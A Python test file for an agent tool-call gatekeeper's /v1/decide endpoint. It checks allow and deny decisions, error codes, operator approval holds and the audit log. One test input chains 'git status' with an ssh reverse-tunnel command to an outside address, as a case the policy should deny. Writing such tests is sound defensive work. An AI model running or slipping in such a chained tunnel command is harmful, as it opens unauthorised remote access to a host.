"""POST /v1/decide: the decision without forwarding, recorded as its own audit entry."""

from __future__ import annotations

import asyncio
import json
import sqlite3
from pathlib import Path
from typing import Any

import aiohttp

from gatekeeper.app import Gatekeeper

from ..helpers import H100, decisions, invoke, make_config, mint, running, vote, wait_for_pending

DECIDE = "/v1/decide"
TUNNEL = "git status && ssh -N -R 2222:localhost:22 u@203.0.113.7"


async def test_allowed_decision_is_not_forwarded(
    gk: Gatekeeper, http: aiohttp.ClientSession, log_output: list[dict[str, Any]]
) -> None:
    status, body, _ = await invoke(http, gk, "shell.exec", {"cmd": "git status"}, mint(gk), path=DECIDE)
    assert status == 200, body
    assert body["outcome"] == "allowed" and body["tool"] == "shell.exec"
    assert "proc.exec:git" in body["capabilities"]
    assert body["rule"] and body["policy_version"] and body["enforced"] is True
    assert "result" not in body
    assert gk.demo is not None and gk.demo.http_received == []  # nothing reached the tool
    [record] = decisions(log_output)
    assert record["entry"] == "decide" and record["outcome"] == "allowed"
    assert record["decision_id"] == body["decision_id"]


async def test_denied_decision_carries_code_reason_rule_and_capability(
    gk: Gatekeeper, http: aiohttp.ClientSession
) -> None:
    status, body, _ = await invoke(http, gk, "shell.exec", {"cmd": TUNNEL}, mint(gk), path=DECIDE)
    assert status == 403, body
    assert body["outcome"] == "denied" and body["code"] == "policy_denied"
    assert body["capability"] == "net.tunnel.reverse"
    assert body["rule"].startswith("policy.csv:") and "tunnel" in body["reason"]
    assert gk.demo is not None and gk.demo.http_received == []


async def test_bad_input_and_bad_token_are_the_same_errors_as_invoke(
    gk: Gatekeeper, http: aiohttp.ClientSession
) -> None:
    assert (await invoke(http, gk, "shell.exec", {"cmd": "ls"}, None, path=DECIDE))[0] == 401
    status, body, _ = await invoke(http, gk, "no.such.tool", {}, mint(gk), path=DECIDE)
    assert status == 404 and body["code"] == "unknown_tool"
    async with http.post(
        f"{gk.agent_url}{DECIDE}",
        data=b'{"tool": "shell.exec", "tool": "file.read", "arguments": {}}',
        headers={"Content-Type": "application/json", "Authorization": f"Bearer {mint(gk)}"},
    ) as resp:
        assert resp.status == 400 and (await resp.json())["code"] == "duplicate_key"


async def test_held_decision_honours_prefer_wait_and_an_approval_is_used_once(
    gk: Gatekeeper, http: aiohttp.ClientSession
) -> None:
    token = mint(gk)
    status, body, _ = await invoke(
        http, gk, "compute.provision", H100, token, {"Prefer": "wait=0"}, path=DECIDE
    )
    assert status == 202, body
    assert body["outcome"] == "pending" and body["approval_id"].startswith("apr_")
    assert body["expires_at"].endswith("Z")  # ISO 8601, UTC
    # A caller that waits gets the operator's answer on the same request.
    waiting = asyncio.create_task(
        invoke(http, gk, "compute.provision", H100, token, {"Prefer": "wait=20"}, path=DECIDE)
    )
    approval_id = await wait_for_pending(http, gk)
    assert approval_id == body["approval_id"]  # the same call collapses into one approval
    assert (await vote(http, gk, approval_id, "approve"))[0] == 200
    status, answer, _ = await waiting
    assert status == 200 and answer["outcome"] == "allowed", answer
    assert answer["approval_id"] == approval_id and answer["code"] == "approved"
    # Used once: the same call asks again.
    again = await invoke(http, gk, "compute.provision", H100, token, {"Prefer": "wait=0"}, path=DECIDE)
    assert again[0] == 202 and again[1]["approval_id"] != approval_id
    assert gk.demo is not None and gk.demo.http_received == []


async def test_decide_records_are_in_the_audit_chain(tmp_path: Path, http: aiohttp.ClientSession) -> None:
    config = make_config(tmp_path)
    async with running(config) as gk:
        token = mint(gk)
        assert (await invoke(http, gk, "file.read", {"path": "README.md"}, token, path=DECIDE))[0] == 200
        assert (await invoke(http, gk, "file.read", {"path": "README.md"}, token))[0] == 200
    db = sqlite3.connect(config.data_dir / "audit.sqlite3")
    try:
        bodies = [json.loads(row[0]) for row in db.execute("SELECT body FROM audit_records ORDER BY seq")]
    finally:
        db.close()
    assert [b["entry"] for b in bodies] == ["decide", "invoke"]
    assert bodies[0]["arguments"] == {"path": "README.md"} and bodies[0]["outcome"] == "allowed"
